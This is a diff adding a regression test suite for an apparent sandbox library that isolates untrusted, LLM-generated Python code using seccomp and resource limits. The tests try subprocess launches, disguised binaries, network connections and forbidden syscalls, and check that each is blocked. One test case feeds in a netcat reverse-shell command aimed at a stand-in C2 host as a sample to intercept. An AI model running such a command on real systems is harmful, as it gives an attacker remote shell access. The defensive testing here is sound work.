@@ -1,0 +1,236 @@
+# SPDX-License-Identifier: MIT
+"""VAREK's own regression cases and the shapes of its API, written anew, through cordon.varek."""
+import inspect
+import os
+import subprocess
+import sys
+import time
+from unittest import mock
+
+from cordon import varek
+from support import BINARY, TIER
+from varekcase import PYTHON, Case
+
+BPF = {"x86_64": 321, "aarch64": 280}[os.uname().machine]
+
+
+class Names(Case):
+    def test_signatures(self):
+        """names, fields, defaults"""
+        def fields(cls):
+            return list(inspect.signature(cls).parameters.items())
+        self.assertEqual([n for n, _ in fields(varek.ExecutionPayload)], ["interpreter_path", "code", "argv_extra", "stdin"])
+        self.assertEqual([(n, p.default) for n, p in fields(varek.ResourceLimits)],
+                         [("memory_mb", 512), ("cpu_quota_pct", 50), ("pids_max", 64), ("wall_clock_timeout_s", 30.0)])
+        self.assertEqual([n for n, _ in fields(varek.ExecutionPolicy)],
+                         ["binary_allowlist", "syscall_allowlist", "syscall_killlist", "allow_network", "resources"])
+        self.assertEqual([n for n, _ in fields(varek.ExecutionOutcome)][:7],
+                         ["exit_code", "stdout", "stderr", "timed_out", "killed_by_signal", "wall_clock_s", "violation"])
+        old = varek.ExecutionOutcome(0, b"", b"", False, None, 0.1)
+        self.assertEqual((old.violation, old.tier, old.layers), (None, "", ()))
+        for cls in (varek.ExecutionPayload, varek.ResourceLimits, varek.ExecutionPolicy):
+            self.assertTrue(cls.__dataclass_params__.frozen)
+        self.assertTrue(issubclass(varek.IsolationError, RuntimeError))
+        self.assertTrue(issubclass(varek.SeccompBpfBackend, varek.IsolationBackend))
+        with self.assertRaises(TypeError):
+            varek.IsolationBackend()
+        self.assertEqual(varek.SeccompBpfBackend().name(), "seccomp_bpf")
+
+    def test_policy(self):
+        """the default policy; one that the box could not keep is refused"""
+        p = varek.default_python_policy()
+        self.assertEqual((p.binary_allowlist, p.allow_network, p.resources), (frozenset({sys.executable}), False, varek.ResourceLimits()))
+        self.assertIn("openat", p.syscall_allowlist)
+        self.assertNotIn("socket", p.syscall_allowlist)
+        self.assertIn("socket", varek.default_python_policy(allow_network=True).syscall_allowlist)
+        self.assertIn("ptrace", p.syscall_killlist)
+        payload = varek.ExecutionPayload(PYTHON, "print(1)")
+        p = self.policy()
+        for allow, kill in ((p.syscall_allowlist - {"openat"}, p.syscall_killlist),
+                            (p.syscall_allowlist, p.syscall_killlist | {"getpid"})):
+            with self.assertRaisesRegex(varek.IsolationError, "openat|getpid"):
+                self.backend.execute(payload, varek.ExecutionPolicy(p.binary_allowlist, allow, kill))
+        wide = varek.ExecutionPolicy(p.binary_allowlist, p.syscall_allowlist | {"ptrace"}, frozenset())
+        self.assertEqual(self.backend.execute(payload, wide).stdout, b"1\n")
+
+
+class Regression(Case):
+    def test_01_subprocess(self):
+        """programs are not started"""
+        o = self.run_code(f"import subprocess\nfor w in (['/bin/touch', {self.canary!r}], ['/bin/sh', '-c', 'echo >{self.canary}']):\n"
+                          " try: subprocess.run(w); print('ran')\n except OSError as e: print(type(e).__name__)")
+        self.assertNotIn(b"ran", o.stdout)
+        self.no_canary()
+        self.assertIn("execve", [d.call for d in o.denials])
+
+    def test_02_encoded(self):
+        """nor in disguise"""
+        o = self.run_code("import base64, subprocess\nsubprocess.run([base64.b64decode('L2Jpbi90b3VjaA==').decode(), %r])" % self.canary)
+        self.assertNotEqual(o.exit_code, 0)
+        self.no_canary()
+
+    def test_03_renamed(self):
+        """nor under another name, the copy itself"""
+        o = self.run_code("import os, shutil\nshutil.copy('/usr/bin/python3', '/tmp/x')\nos.chmod('/tmp/x', 0o755)\n"
+                          "try: os.execv('/tmp/x', ['x', '-c', 'print(\"ran\")'])\nexcept OSError as e: print('no')")
+        self.assertEqual(o.stdout, b"no\n", o.stderr)
+
+    def test_04_execv(self):
+        """os.execv"""
+        self.says("import os\ntry: os.execv('/bin/sh', ['sh'])\nexcept PermissionError: print('EPERM')", "EPERM\n")
+
+    def test_05_network(self):
+        """nobody is reached"""
+        import socket
+        with socket.socket() as s:
+            s.bind(("127.0.0.1", 0))
+            s.listen()
+            s.settimeout(0.2)
+            o = self.run_code(f"import socket, sys\ntry: socket.create_connection(('127.0.0.1', {s.getsockname()[1]}), 3)\nexcept OSError: sys.exit(42)")
+            self.assertEqual(o.exit_code, 42)
+            with self.assertRaises(OSError):
+                s.accept()
+
+    def test_06_ptrace(self):
+        """a call on the kill list kills"""
+        o = self.run_code("import ctypes\nprint('on', flush=True)\nctypes.CDLL(None).ptrace(0, 0, 0, 0)\nprint('off')")
+        self.assertEqual((o.exit_code, o.killed_by_signal, o.violation, o.stdout), (-31, 31, "seccomp_killlist_triggered", b"on\n"))
+
+    def test_07_bpf(self):
+        """so does bpf, by its number here"""
+        o = self.run_code(f"import ctypes\nctypes.CDLL(None).syscall({BPF}, 0, 0, 0)\nprint('off')")
+        self.assertEqual((o.killed_by_signal, o.violation, o.stdout), (31, "seccomp_killlist_triggered", b""))
+
+    def test_08_memory(self):
+        """memory has an end"""
+        o = self.run_code("x = bytearray(512 << 20)\nx[::4096] = b'x' * len(x[::4096])\nprint('all')", memory_mb=64)
+        self.assertNotIn(b"all", o.stdout)
+        self.assertTrue(o.violation == "sigkill_likely_cgroup_limit" and o.killed_by_signal == 9 or b"MemoryError" in o.stderr, o)
+
+    def test_09_clock(self):
+        """so has time"""
+        begun = time.monotonic()
+        o = self.run_code("import time\ntime.sleep(30)", wall_clock_timeout_s=1.0)
+        self.assertEqual((o.timed_out, o.violation, o.exit_code, o.killed_by_signal), (True, "wall_clock_timeout", -9, 9))
+        self.assertLess(time.monotonic() - begun, 10)
+        self.assertGreaterEqual(o.wall_clock_s, 1.0)
+
+    def test_10_no_backend(self):
+        """without a backend nothing runs; both shapes' words"""
+        for words in ("^No backend configured. ", "no isolation backend configured; "):
+            with self.assertRaisesRegex(varek.IsolationError, words):
+                varek.execute_untrusted(varek.ExecutionPayload(PYTHON, "print(1)"))
+        self.assertIs(varek.get_active_backend(), None)
+
+    def test_11_allowlist(self):
+        """only listed interpreters; a relative path; a file that is not there; no Python"""
+        for path, allowed, words in (("/bin/sh", PYTHON, "not in policy.binary_allowlist"), ("python3", PYTHON, "interpreter_path must be absolute"),
+                                     ("/nothing/python3", "/nothing/python3", "no file"), ("/bin/sh", "/bin/sh", "no Python")):
+            with self.assertRaisesRegex(varek.IsolationError, words):
+                self.backend.execute(varek.ExecutionPayload(path, "print(1)"), varek.default_python_policy(frozenset({allowed})))
+
+    def test_13_telemetry(self):
+        """the hook in the parent sees, never stops, in both shapes; an error in it is nobody's"""
+        two, one = [], []
+
+        def broken(event, args):
+            raise ZeroDivisionError
+        varek.subscribe_telemetry(lambda event, args: two.append((event, args)))
+        varek.subscribe_telemetry(one.append)
+        varek.subscribe_telemetry(broken)
+        self.assertEqual(subprocess.run(["/bin/true"]).returncode, 0)
+        self.assertIn("subprocess.Popen", [e for e, _ in two])
+        self.assertIn("subprocess.Popen", [d["event"] for d in one])
+        self.assertEqual(set(one[0]), {"ts", "event", "args_repr"})
+
+    def test_14_benign(self):
+        """ordinary code"""
+        o = self.says("import sys\nprint('hello', sys.argv[1:], sys.stdin.read())", "hello ['a', 'b'] data\n", argv=("a", "b"), stdin=b"data")
+        self.assertEqual((o.stderr, o.timed_out, o.killed_by_signal, o.violation, o.tier), (b"", False, None, None, TIER))
+        self.assertIn("seccomp", o.layers)
+        self.assertTrue(o.audit_id)
+
+    def test_15_platforms(self):
+        """other systems are told so, by configure and by execute; Linux is not"""
+        for name in ("darwin", "win32", "freebsd13"):
+            with mock.patch.object(sys, "platform", name):
+                with self.assertRaisesRegex(varek.IsolationError, f"SeccompBpfBackend unavailable: unsupported platform: {name}. See docs/development.md"):
+                    varek.configure_backend(self.backend)
+                with self.assertRaisesRegex(varek.IsolationError, f"unsupported platform: {name}"):
+                    self.backend.execute(varek.ExecutionPayload(PYTHON, "print(1)"), self.policy())
+        self.assertIs(self.backend.is_available(), None)
+
+    def test_20_unavailable(self):
+        """a backend that says no is not taken; the old one stays"""
+        class Off(varek.IsolationBackend):
+            def name(self): return "off"
+            def is_available(self): return "switched off"
+            def execute(self, payload, policy): raise AssertionError
+        varek.configure_backend(self.backend)
+        with self.assertRaisesRegex(varek.IsolationError, "^Off unavailable: switched off. See docs/development.md"):
+            varek.configure_backend(Off())
+        self.assertIs(varek.get_active_backend(), self.backend)
+
+    def test_21_truth(self):
+        """is_available tries: no program, or a layer that is missing"""
+        self.assertIn("/nothing", varek.SeccompBpfBackend(binary="/nothing/cordon").is_available())
+        binary = BINARY
+        if os.getuid() == 0:
+            binary = self.script("exec setpriv --reuid 61000 --regid 61000 --clear-groups 'CORDON' \"$@\"")
+        told = varek.SeccompBpfBackend(binary=binary, tier="full").is_available()
+        self.assertIn("cgroup", told)
+        self.assertIs(self.backend.is_available(), None)
+        self.assertTrue(self.backend.capabilities()["seccomp"])
+
+    def test_22_environment(self):
+        """nothing of the host's environment is inside"""
+        with mock.patch.dict(os.environ, {"SECRET_TOKEN": "s3cret"}):
+            self.says("import os\nprint('SECRET_TOKEN' in os.environ, [k for k in os.environ if 's3cret' in os.environ[k]])", "False []\n")
+
+
+class Seed(Case):
+    def test_example(self):
+        """the seed's example with one import changed: stopped, and told in its words"""
+        example = '''
+import subprocess
+import cordon.varek as varek_warden
+
+varek_warden.enforce_strict_mode()
+
+def simulate_llama_code_interpreter(generated_code):
+    try:
+        subprocess.run(["python", "-c", generated_code], shell=False, check=True)
+    except Exception as e:
+        print(f"\\n[VAREK KINETIC INTERCEPT] Code Interpreter Breach Prevented: {e}")
+        print("[*] Host machine integrity maintained.\\n")
+
+if __name__ == "__main__":
+    %s
+    simulate_llama_code_interpreter(CODE)
+'''
+        lower = f"from cordon import Cordon, _varek_strict; _varek_strict.arm(Cordon(tier={TIER!r}))"
+        rows = {"import os\nos.system('nc -e /bin/bash hostile-c2.net 4444')": ["Breach Prevented", "CORDON-2026-0001"],
+                f"import os, sys\nos.system('touch ' + {self.canary!r})\nopen({self.canary!r}, 'w')": ["Breach Prevented", "non-zero exit status 1"],
+                "print('fine', 6 * 7)": ["fine 42"]}
+        for code, words in rows.items():
+            done = subprocess.run([sys.executable, "-B", "-"], input=example.replace("CODE", repr(code)) % lower, text=True,
+                                  stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60,
+                                  env=dict(os.environ, PYTHONPATH=os.pathsep.join(sys.path), CORDON_BINARY=BINARY, XDG_STATE_HOME=self.path("state")))
+            for word in words:
+                self.assertIn(word, done.stdout)
+            self.no_canary()
+
+    def test_strict(self):
+        """what is no Python with -c is the host's own, as before"""
+        code = ("import subprocess, sys\nfrom cordon import Cordon, varek, _varek_strict\nvarek.enforce_strict_mode()\n"
+                f"_varek_strict.arm(Cordon({BINARY!r}, tier={TIER!r}))\n"
+                "print(subprocess.run(['/bin/echo', 'host'], capture_output=True, text=True).stdout, end='')\n"
+                "print(subprocess.check_output([sys.executable, '-c', 'import os; print(os.getuid())'], text=True), end='')\n"
+                "print(subprocess.run([sys.executable, '-I', '-c', 'import sys; print(sys.stdin.read(), sys.argv[1:]); sys.exit(3)', 'a'], input='in', text=True, stdout=subprocess.PIPE))\n"
+                "try: subprocess.run([sys.executable, '-c', 'while True: pass'], timeout=.5)\n"
+                "except subprocess.TimeoutExpired as e: print('late')\n")
+        done = subprocess.run([sys.executable, "-B", "-"], input=code, text=True, stdout=subprocess.PIPE, timeout=60,
+                              env=dict(os.environ, PYTHONPATH=os.pathsep.join(sys.path), XDG_STATE_HOME=self.path("state")))
+        lines = done.stdout.splitlines()
+        self.assertEqual((lines[0], lines[1], lines[3]), ("host", "1000", "late"))
+        self.assertIn("returncode=3, stdout=\"in ['a']\\n\"", lines[2])
